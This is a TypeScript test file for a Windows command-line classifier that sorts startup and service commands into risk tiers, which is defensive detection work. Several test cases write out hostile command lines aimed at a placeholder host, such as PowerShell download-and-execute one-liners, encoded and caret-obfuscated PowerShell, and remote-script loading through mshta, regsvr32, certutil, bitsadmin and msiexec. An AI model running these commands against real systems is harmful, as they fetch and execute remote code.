import assert from 'node:assert/strict';
import { test } from 'node:test';
import { judgeCommand, quoteCommand } from './command-line.ts';

const B64 = 'SQBFAFgAIAAnAGkAbgBlAHIAdAAnAA==';

const CASES: readonly (readonly [name: string, command: string, tier: string])[] = [
  ['part of Windows', '%windir%\\system32\\SecurityHealthSystray.exe', 'none'],
  ['part of Windows, as drivers have it', '\\SystemRoot\\System32\\drivers\\ntfs.sys', 'none'],
  ['part of Windows, relative', 'system32\\DRIVERS\\x.sys', 'none'],
  ['svchost', '%SystemRoot%\\system32\\svchost.exe -k netsvcs -p', 'none'],
  [
    'rundll32 with a part of Windows',
    '%windir%\\system32\\rundll32.exe %windir%\\system32\\pla.dll,PlaHost',
    'none',
  ],
  ['regsvr32 of Active Setup', '/s /n /i:U shell32.dll', 'note'],
  ['an agent, quoted', '"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe" -n vmusr', 'note'],
  ['an agent, unquoted', 'C:\\Program Files\\Amazon\\SSM\\amazon-ssm-agent.exe', 'note'],
  ['Defender', '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.1\\MsMpEng.exe"', 'note'],
  [
    'EC2Launch',
    'powershell.exe -NoProfile -ExecutionPolicy Unrestricted -File "C:\\ProgramData\\Amazon\\EC2-Windows\\Launch\\Scripts\\InitializeInstance.ps1"',
    'note',
  ],
  ['OneDrive', '"C:\\Users\\a\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background', 'note'],
  ['a log below Temp', '"C:\\Program Files\\x\\x.exe" --log C:\\Temp\\x.log', 'note'],
  ['Temp of Windows', 'C:\\Windows\\Temp\\x.exe', 'block'],
  ['Temp by variable', '"%TEMP%\\x.exe"', 'block'],
  ['Temp with slashes', 'c:/temp/x.exe', 'block'],
  ['Temp by a way round', 'C:\\Windows\\System32\\..\\Temp\\x.exe', 'block'],
  ['Temp in the kernel form', '\\??\\C:\\Windows\\Temp\\x.sys', 'block'],
  ['the public folder', '%PUBLIC%\\x.exe', 'block'],
  ['the recycle bin', 'C:\\$Recycle.Bin\\S-1-5-21\\x.exe', 'block'],
  ['the top of ProgramData', 'C:\\ProgramData\\x.exe', 'block'],
  ['below ProgramData', 'C:\\ProgramData\\Vendor\\x.exe', 'review'],
  ['the top of Roaming', '%APPDATA%\\x.exe', 'block'],
  ['below Roaming', '%APPDATA%\\vendor\\x.exe', 'review'],
  ['an alternate stream', 'C:\\Windows\\x.txt:y.exe', 'block'],
  ['a name of Windows elsewhere', 'C:\\Program Files\\x\\svchost.exe', 'block'],
  ['another machine', '\\\\host.invalid\\share\\x.exe', 'review'],
  ['a web folder', '\\\\host.invalid@SSL\\dav\\x.exe', 'block'],
  ['a script in Temp by cmd', 'cmd.exe /c start "" "C:\\Users\\Public\\x.bat"', 'block'],
  ['a script in Temp by cmd without its extension', 'cmd /c C:\\Windows\\Temp\\x.bat', 'block'],
  ['the same by the path of cmd', 'C:\\Windows\\System32\\cmd /c C:\\Windows\\Temp\\x.bat', 'block'],
  ['a driver with spaces in its path', '\\SystemRoot\\System32\\drivers\\a b.sys', 'none'],
  ['a library in Temp by rundll32', 'rundll32.exe C:\\Windows\\Temp\\x.dll,Start', 'block'],
  ['a script by PowerShell and variable', 'powershell -File $env:TEMP\\x.ps1', 'block'],
  ['encoded', `powershell.exe -NoP -w hidden -enc ${B64}`, 'block'],
  ['encoded, shortest', `powershell -e ${B64}`, 'block'],
  ['encoded, with carets', `p^ower^shell -^enc ${B64}`, 'block'],
  ['-ExecutionPolicy is no -Encoded', 'powershell -ExecutionPolicy RemoteSignedOnlyHere', 'note'],
  [
    'fetched and run',
    'powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://x.invalid/a\')"',
    'block',
  ],
  ['fetched and run by pipe', 'powershell irm http://x.invalid/a | iex', 'block'],
  ['fetched only', 'powershell Invoke-WebRequest http://x.invalid/a -OutFile a', 'review'],
  ['hidden', 'powershell -WindowStyle Hidden -File "C:\\Program Files\\x\\y.ps1"', 'review'],
  ['mshta', 'mshta http://x.invalid/a.hta', 'block'],
  ['rundll32 with a script', 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"', 'block'],
  ['regsvr32 with a script', 'regsvr32 /s /n /u /i:http://x.invalid/a.sct scrobj.dll', 'block'],
  ['certutil', 'certutil.exe -urlcache -split -f http://x.invalid/a a', 'block'],
  ['bitsadmin', 'bitsadmin /transfer j http://x.invalid/a C:\\a', 'block'],
  ['msiexec from the network', 'msiexec /q /i http://x.invalid/a.msi', 'block'],
  ['nothing', '', 'none'],
];

for (const [name, command, tier] of CASES)
  test(`a command line: ${name}`, () => assert.equal(judgeCommand(command)?.tier ?? 'none', tier));

test('long lines take no time', () => {
  const start = performance.now();
  for (const part of [
    '"',
    'c:\\',
    'rundll32 ',
    '-e ',
    '%temp%\\',
    '\\\\a\\',
    'powershell -w ',
    'a.',
    'certutil -',
  ])
    judgeCommand(part.repeat(40_000 / part.length));
  assert.ok(performance.now() - start < 3_000);
});

test('passwords are not quoted', () => {
  assert.equal(quoteCommand('net user admin Hunter2! /add'), 'net user admin *** /add');
  assert.equal(quoteCommand('x.exe /password:Hunter2! /q'), 'x.exe /password:*** /q');
});
